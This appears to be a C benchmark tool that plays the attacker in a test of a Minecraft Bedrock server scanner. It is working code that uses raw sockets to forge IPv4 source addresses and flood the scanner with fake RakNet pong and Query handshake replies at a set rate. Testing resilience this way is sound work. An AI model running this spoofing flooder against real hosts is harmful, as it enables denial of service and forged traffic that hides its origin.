/*
 * The attacker of bench/sweep/flood.ts. It does not receive the probes of the scan, but it knows the
 * address and port of the scan. It sends datagrams that look like replies of servers, with the
 * addresses of all targets as sources, in turn.
 *
 *     flood FIRST_ADDRESS COUNT SCAN_ADDRESS SCAN_PORT RATE SECONDS
 *
 * Every second datagram is a RakNet pong with a random time. The others have the form of a server's
 * reply to a Query handshake, with a random session. It uses raw sockets, because the source
 * addresses are forged. Prints how many datagrams of each kind were sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64
#define ROOM 256
#define GAME_PORT 19132
#define HEAD (sizeof(struct iphdr) + sizeof(struct udphdr))

static const unsigned char MAGIC[16] = {
    0x00, 0xff, 0xff, 0x00, 0xfe, 0xfe, 0xfe, 0xfe, 0xfd, 0xfd, 0xfd, 0xfd, 0x12, 0x34, 0x56, 0x78,
};
static const char TEXT[] = "MCPE;forged;827;1.21.101;1;20;7;World;Survival;1;19132;19133;";

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

static uint64_t state = 88172645463325252ull;

static uint64_t draw(void) {
    state ^= state << 13;
    state ^= state >> 7;
    return state ^= state << 17;
}

static int pong(unsigned char *to) {
    uint64_t time = draw() & 0x7fffffffffffffffull, guid = draw();
    int size = sizeof TEXT - 1;
    to[0] = 0x1c;
    memcpy(to + 1, &time, 8);
    memcpy(to + 9, &guid, 8);
    memcpy(to + 17, MAGIC, 16);
    to[33] = size >> 8;
    to[34] = size;
    memcpy(to + 35, TEXT, size);
    return 35 + size;
}

static int handshake(unsigned char *to) {
    uint32_t session = draw() & 0x0f0f0f0f;
    to[0] = 0x09;
    memcpy(to + 1, &session, 4);
    memcpy(to + 5, "9513307", 8);
    return 13;
}

int main(int argc, char **argv) {
    if (argc != 7) {
        fprintf(stderr, "flood FIRST_ADDRESS COUNT SCAN_ADDRESS SCAN_PORT RATE SECONDS\n");
        return 2;
    }
    uint32_t first = ntohl(inet_addr(argv[1])), count = strtoul(argv[2], NULL, 10), at = 0;
    struct sockaddr_in us = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(argv[3])};
    uint16_t port = htons(atoi(argv[4]));
    double rate = atof(argv[5]), seconds = atof(argv[6]), begun = now(), passed;
    long sent[2] = {0, 0};
    int socket_ = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (socket_ < 0) {
        perror("socket");
        return 1;
    }
    static struct mmsghdr messages[BATCH];
    static struct iovec parts[BATCH];
    static unsigned char packets[BATCH][ROOM];
    while ((passed = now() - begun) < seconds) {
        if (sent[0] + sent[1] > rate * passed) continue;
        for (int i = 0; i < BATCH; i++) {
            unsigned char *packet = packets[i];
            int size = HEAD + (i % 2 ? handshake(packet + HEAD) : pong(packet + HEAD));
            struct iphdr *ip = (struct iphdr *)packet;
            struct udphdr *udp = (struct udphdr *)(packet + sizeof *ip);
            *ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
                                 .tot_len = htons(size), .daddr = us.sin_addr.s_addr};
            ip->saddr = htonl(first + (uint32_t)(at++ * 2654435761ull % count));
            *udp = (struct udphdr){.source = htons(GAME_PORT), .dest = port,
                                   .len = htons(size - sizeof *ip)}; /* IPv4 allows UDP without a checksum */
            parts[i] = (struct iovec){packet, size};
            messages[i].msg_hdr = (struct msghdr){.msg_name = &us, .msg_namelen = sizeof us,
                                                  .msg_iov = &parts[i], .msg_iovlen = 1};
        }
        int taken = sendmmsg(socket_, messages, BATCH, 0);
        for (int i = 0; i < taken; i++) sent[i % 2]++;
    }
    printf("%ld pongs, %ld handshakes, %.1f s\n", sent[0], sent[1], now() - begun);
    return 0;
}
